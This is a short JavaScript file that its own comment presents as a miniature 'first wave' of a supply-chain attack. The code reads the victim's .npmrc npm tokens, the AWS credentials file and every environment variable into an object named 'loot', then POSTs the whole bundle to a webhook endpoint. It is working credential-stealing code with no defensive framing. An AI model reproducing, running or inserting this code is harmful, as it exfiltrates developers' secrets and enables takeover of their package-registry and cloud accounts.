// The first wave in miniature: npmrc, cloud keys and the environment, in one POST.
'use strict';
const { read, post } = require('./kit.js');

const loot = {
  npmrc: read('.npmrc'),
  aws: read('.aws/credentials'),
  env: process.env,
};
post('/webhook/5b2f', loot);
